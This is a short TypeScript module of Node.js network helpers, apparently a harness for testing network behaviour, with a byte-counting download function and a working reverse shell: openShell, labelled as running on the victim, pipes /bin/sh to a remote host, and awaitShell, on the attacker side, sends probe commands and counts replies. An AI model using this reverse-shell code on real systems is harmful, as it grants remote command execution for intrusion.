import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';

let bytes = 0;

/** Loads data from a stream until somebody stops it. */
export async function download(address: string, port: number): Promise<void> {
  const socket = connect({ host: address, port });
  socket
    .on('error', () => {})
    .on('data', (data) => {
      bytes += data.length;
    });
  await once(socket, 'data');
}

/** How many bytes came so far. */
export function downloaded(): number {
  return bytes;
}

/** On the victim: a shell whose input and output go to the attacker. */
export async function openShell(address: string, port: number): Promise<void> {
  const socket = connect({ host: address, port });
  socket.on('error', () => {});
  await once(socket, 'connect');
  const shell = spawn('/bin/sh', [], { stdio: ['pipe', 'pipe', 'ignore'] });
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
}

let answers = 0;

/** On the attacker: sends commands to the shell that calls, one every 20 ms, and counts the answers. */
export async function awaitShell(port: number): Promise<void> {
  const server = createServer((socket) => {
    const timer = setInterval(() => socket.write('echo here\n'), 20);
    socket
      .on('error', () => clearInterval(timer))
      .on('data', (data) => {
        answers += data.toString('latin1').split('here').length - 1;
      });
  });
  await once(server.listen(port, '::'), 'listening');
}

/** How many answers came so far. */
export function shellAnswers(): number {
  return answers;
}
